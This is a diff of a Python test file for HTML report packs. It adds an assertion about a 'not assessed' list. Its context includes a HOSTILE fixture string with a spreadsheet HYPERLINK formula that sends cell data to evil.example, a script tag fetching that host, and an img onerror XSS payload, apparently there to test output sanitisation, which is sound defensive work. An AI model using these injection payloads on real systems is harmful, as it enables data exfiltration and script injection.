@@ -215,6 +215,9 @@ def test_an_annex_a_pack_says_adult_needs_and_the_title_counts_are_not_recorded(
         assert "not recorded: household changes, challenges, written agreements, adult needs" in title
         assert not re.search(r"\b0 (household|challenge|adult)", title) and "&lt;br&gt;" not in title
         assert not re.search(r"\b1 events\b", re.sub(r"<[^>]+>", " ", html))
+    # the repeat plans' earlier plans are only a count: whether they came within the window is not assessed
+    assert any("re-planned within the window" in re.search(r"Not assessed, not recorded in this data: ([^<]*)",
+                                                             html).group(1) for html in packs)
 
 HOSTILE = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") <script>fetch('http://evil.example')</script> "
            "[see the report](http://evil.example/x) <img src=x onerror=alert(1)>")
